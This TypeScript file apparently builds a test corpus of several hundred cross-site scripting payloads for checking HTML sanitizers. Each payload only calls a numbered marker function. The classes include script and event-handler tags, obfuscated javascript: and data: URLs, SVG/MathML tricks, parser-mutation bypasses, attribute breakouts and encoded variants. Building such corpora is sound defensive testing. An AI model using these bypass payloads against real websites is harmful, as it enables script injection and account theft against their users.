/**
 * XSS payloads of every known class. Each template's `$` is replaced by a call that reports the
 * payload's own number (`__xss(17)`), so a run names the payload that ran; `@URL@` stands for a
 * `javascript:` URL that does the same. Templates are expanded across contexts (URL tricks × the
 * elements that take a URL), which is how the corpus reaches a few hundred distinct strings.
 */
export type PayloadClass =
  | 'script'
  | 'handler'
  | 'url'
  | 'url-in-element'
  | 'svg-mathml'
  | 'mutation'
  | 'attribute-break'
  | 'encoded'
  | 'frame'
  | 'meta-form'
  | 'css';

export type Payload = { n: number; kind: PayloadClass; text: string };

const call = (n: number) => `__xss(${n})`;

const script = [
  '<script>$</script>',
  '<SCRIPT>$</SCRIPT>',
  '<script type="text/javascript">$</script>',
  '<script type="module">$</script>',
  '<script>/*</script>*/$</script>',
  '<script\n>$</script\n>',
  '<script src="data:text/javascript,$"></script>',
  '<script src=//127.0.0.1:1/x.js></script>',
  '<scr<script>ipt>$</scr</script>ipt>',
  '<<script>script>$<</script>/script>',
  '<script>$//',
  '<script/xss>$</script>',
  '<script\x00>$</script>',
  '<svg><script>$</script></svg>',
  '<svg><script href="data:text/javascript,$"/></svg>',
  '<math><script>$</script></math>',
];

const handlerTags = [
  '<img src=x onerror=$>',
  '<img src="x" onerror="$">',
  "<img src='x' onerror='$'>",
  '<IMG SRC=x ONERROR=$>',
  '<img/src=x/onerror=$>',
  '<img src=x onerror\n=\n$>',
  '<img src=x onerror=$//',
  '<img src onerror=$>',
  '<image src=x onerror=$>',
  '<svg onload=$>',
  '<svg/onload=$>',
  '<body onload=$>',
  '<input autofocus onfocus=$>',
  '<input type=image src=x onerror=$>',
  '<select autofocus onfocus=$></select>',
  '<textarea autofocus onfocus=$></textarea>',
  '<keygen autofocus onfocus=$>',
  '<details open ontoggle=$>',
  '<video><source onerror=$></video>',
  '<audio src=x onerror=$>',
  '<video src=x onerror=$>',
  '<marquee onstart=$>x</marquee>',
  '<iframe onload=$></iframe>',
  '<object data=x onerror=$></object>',
  '<style onload=$></style>',
  '<link rel=stylesheet href=x onerror=$>',
  '<div onmouseover=$>hover</div>',
  '<a onclick=$>click</a>',
  '<form onsubmit=$><button>go</button></form>',
  '<button onfocus=$ autofocus>b</button>',
  '<frameset onload=$>',
  '<div tabindex=1 autofocus onfocusin=$></div>',
  '<div popover id=p onbeforetoggle=$></div>',
  '<div style="animation:spin 1s" onanimationstart=$></div>',
  '<div style="transition:color 1s" ontransitionend=$></div>',
  '<div onpointerenter=$>p</div>',
  '<body onpageshow=$>',
  '<img src=x:x onerror="window[\'__x\'+\'ss\'](0)||$">',
  '<x contenteditable onblur=$>x</x>',
  '<a href=# onfocus=$ autofocus>a</a>',
  '<table background=x onerror=$></table>',
  '<isindex type=image src=x onerror=$>',
];

/** Ways to write `javascript:`, `vbscript:` and `data:` that browsers still follow. */
const urls = [
  'javascript:$',
  'JaVaScRiPt:$',
  ' javascript:$',
  '\tjavascript:$',
  'java\tscript:$',
  'java\nscript:$',
  'java\rscript:$',
  '\x01javascript:$',
  '\x00javascript:$',
  'javascript\t:$',
  '&#106;avascript:$',
  '&#x6A;avascript:$',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$',
  'javascript&colon;$',
  'jav&#x09;ascript:$',
  'jav&#x0A;ascript:$',
  'javascript://%0a$',
  'javascript:/*--></title></style></textarea></script><svg/onload=$>*/$',
  '%6a%61%76%61%73%63%72%69%70%74:$',
  '\u2028javascript:$',
  'vbscript:msgbox(1)',
  'VBScript:$',
  'data:text/html,<script>$</script>',
  'DATA:text/html,<script>$</script>',
  ' data:text/html;charset=utf-8,<svg onload=$>',
  'data:text/html;base64,$B64',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="$"/>',
  'data:text/javascript,$',
  'data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>$</script></html>',
];

/** Elements that take a URL, each given every trick above. */
const urlElements = [
  '<a href="@URL@">link</a>',
  '<iframe src="@URL@"></iframe>',
  '<form action="@URL@"><button>send</button></form>',
  '<form><button formaction="@URL@">send</button></form>',
  '<svg><a xlink:href="@URL@"><text y=20>svg link</text></a></svg>',
  '<math><maction actiontype=statusline xlink:href="@URL@">m</maction></math>',
  '<object data="@URL@"></object>',
  '<embed src="@URL@">',
];

const svgMathml = [
  '<svg><animate onbegin=$ attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=$ />',
  '<svg><animate attributeName=href values="@URL@" /><a><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=$ /></svg>#x" />',
  '<svg><image href=x onerror=$ />',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$</handler></svg>',
  '<svg><desc><img src=x onerror=$></desc></svg>',
  '<svg><title><img src=x onerror=$></title></svg>',
  '<svg><style>@import url(x);</style><img src=x onerror=$>',
  '<math><mi xlink:href="@URL@">m</mi></math>',
  '<math href="@URL@">click</math>',
  '<math><mtext><img src=x onerror=$></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=$></annotation-xml></math>',
  '<svg><a href="@URL@"><circle r=40 /></a></svg>',
  '<svg><discard onbegin=$ />',
];

const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<template><img src=x onerror=$></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=$>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=$&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=$>"></style></svg></mglyph></h1></mtext></math>',
  '<svg><style><img src=x onerror=$></style></svg>',
  '<style><img src=x onerror=$></style>',
  '<textarea></textarea><img src=x onerror=$>',
  '<textarea><img src=x onerror=$></textarea>',
  '<title><img src=x onerror=$></title>',
  '<title></title><img src=x onerror=$>',
  '<xmp><img src=x onerror=$></xmp>',
  '<noembed><img src=x onerror=$></noembed>',
  '<noframes><img src=x onerror=$></noframes>',
  '<iframe><img src=x onerror=$></iframe>',
  '<!--><img src=x onerror=$>-->',
  '<!-- --!><img src=x onerror=$>-->',
  '<![CDATA[><img src=x onerror=$>]]>',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=$>">]]></svg>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=$>">',
  '<table><caption><svg><style><img src=x onerror=$></style></svg></caption></table>',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=$></style></annotation-xml></math>',
  '<a href="<img src=x onerror=$>">x</a>',
  '<div id="1"><form id="test"></form><button form="test" formaction="@URL@">X</button></div>',
  '<plaintext><img src=x onerror=$>',
  '<object><param name=src value="@URL@"></object>',
  '<svg><p><style><img src=x onerror=$></style></p></svg>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=$ src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
];

const attributeBreak = [
  '"><img src=x onerror=$>',
  "'><svg onload=$>",
  '" onmouseover="$',
  "' autofocus onfocus='$",
  '" autofocus onfocus=$ x="',
  '"><script>$</script>',
  '</textarea><script>$</script>',
  '</title><script>$</script>',
  '</style><script>$</script>',
  '</script><script>$</script>',
  '</noscript><img src=x onerror=$>',
  '"-$-"',
  "';$;//",
  '${$}',
  '{{constructor.constructor("$")()}}',
  '`-$-`',
  '"/><img src=x onerror=$>',
  '\'"--></style></script><svg onload=$>',
  '" onfocus=$ autofocus="',
  ' onerror=$ ',
];

const encoded = [
  '&lt;img src=x onerror=$&gt;',
  '&amp;lt;script&amp;gt;$&amp;lt;/script&amp;gt;',
  '%3Cimg%20src%3Dx%20onerror%3D$%3E',
  '%253Cscript%253E$%253C%252Fscript%253E',
  '\\u003cimg src=x onerror=$\\u003e',
  '\\x3cscript\\x3e$\\x3c/script\\x3e',
  '&#60;img src=x onerror=$&#62;',
  '&#x3C;svg onload=$&#x3E;',
  '<img src=x onerror=&#95;&#95;xss(N)>',
  '<img src=x onerror=&#x5f;&#x5f;xss(N)>',
  '<img src=x onerror="\\u005f\\u005fxss(N)">',
  '<svg><script>&#95;&#95;xss(N)</script></svg>',
  '+ADw-script+AD4-$+ADw-/script+AD4-',
  '＜script＞$＜/script＞',
  '<img src=x onerror=eval(atob("$B64JS"))>',
  '<img src=x onerror=eval(String.fromCharCode($CODES))>',
  '<img src=x onerror=top[`__xss`](N)>',
  '<img src=x onerror=window["\\x5f\\x5fxss"](N)>',
  '<a href="&#x26;#106;avascript:$">double</a>',
  '\u0000<script>$</script>',
];

const frames = [
  '<iframe srcdoc="<script>parent.$</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.$&gt;"></iframe>',
  '<iframe srcdoc=\'<svg onload="parent.$">\'></iframe>',
  '<iframe src="data:text/html,<script>$</script>"></iframe>',
  '<iframe src="data:text/html;base64,$B64"></iframe>',
  '<object data="data:text/html,<script>$</script>"></object>',
  '<object type="text/html" data="data:text/html;base64,$B64"></object>',
  '<embed src="data:image/svg+xml,<svg onload=$ xmlns=http://www.w3.org/2000/svg>">',
  '<embed type="text/html" src="data:text/html,<script>$</script>">',
  '<frameset><frame src="@URL@"></frameset>',
  '<iframe sandbox="allow-scripts" srcdoc="<script>$</script>"></iframe>',
  '<portal src="@URL@"></portal>',
  '<applet code="javascript:$"></applet>',
  '<base href="javascript:$//">',
  '<base href="//127.0.0.1:1/">',
];

const metaForm = [
  '<meta http-equiv="refresh" content="0;url=@URL@">',
  '<meta http-equiv="refresh" content="0; URL=\'@URL@\'">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,$B64">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="UTF-7">+ADw-script+AD4-$+ADw-/script+AD4-',
  '<form action="@URL@"><input type=submit></form>',
  '<form id=f></form><button form=f formaction="@URL@">x</button>',
  '<isindex action="@URL@">',
  '<input type=submit formaction="@URL@">',
  '<form><input type=image src=x formaction="@URL@"></form>',
  '<a ping="@URL@" href=#>ping</a>',
  '<area href="@URL@">',
];

const css = [
  '<div style="background:url(javascript:$)">bg</div>',
  '<div style="width:expression($)">ie</div>',
  '<style>*{x:expression($)}</style>',
  '<style>@import "javascript:$";</style>',
  '<link rel=stylesheet href="javascript:$">',
  '<div style="behavior:url(#default#time2)" onbegin=$>b</div>',
  '<div style="-moz-binding:url(data:text/xml,x)">m</div>',
  '<div style="background-image:url(&#1;javascript:$)">e</div>',
  '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=$></div>',
  '<div style="x:\\65 xpression($)">esc</div>',
  '<style>body{background:url("javascript:$")}</style>',
  '<div style="list-style:url(javascript:$)">li</div>',
  '<p style="color:red;background:url(\'vbscript:msgbox(1)\')">vb</p>',
];

function expand(template: string, n: number): string {
  const js = call(n);
  const b64 = btoa(`<script>${js}</script>`);
  return template
    .replaceAll('$B64JS', btoa(js))
    .replaceAll('$B64', b64)
    .replaceAll('$CODES', Array.from(js, (c) => c.charCodeAt(0)).join(','))
    .replaceAll('@URL@', `javascript:${js}`)
    .replaceAll('(N)', `(${n})`)
    .replaceAll('$', js);
}

function build(): Payload[] {
  const out: Payload[] = [];
  const add = (kind: PayloadClass, template: string) => {
    const n = out.length + 1;
    out.push({ n, kind, text: expand(template, n) });
  };
  script.forEach((t) => add('script', t));
  handlerTags.forEach((t) => add('handler', t));
  // The URL on its own, as a link's href or an image's src holds it.
  urls.forEach((u) => add('url', u));
  for (const element of urlElements) {
    for (const u of urls.slice(0, 12)) add('url-in-element', element.replace('@URL@', u.replaceAll('"', '&quot;')));
  }
  svgMathml.forEach((t) => add('svg-mathml', t));
  mutation.forEach((t) => add('mutation', t));
  attributeBreak.forEach((t) => add('attribute-break', t));
  encoded.forEach((t) => add('encoded', t));
  frames.forEach((t) => add('frame', t));
  metaForm.forEach((t) => add('meta-form', t));
  css.forEach((t) => add('css', t));
  return out;
}

export const corpus: readonly Payload[] = build();

/** The payloads that are URLs on their own: what a link href, an image src or a commenter URL holds. */
export const urlPayloads: readonly Payload[] = corpus.filter((p) => p.kind === 'url');
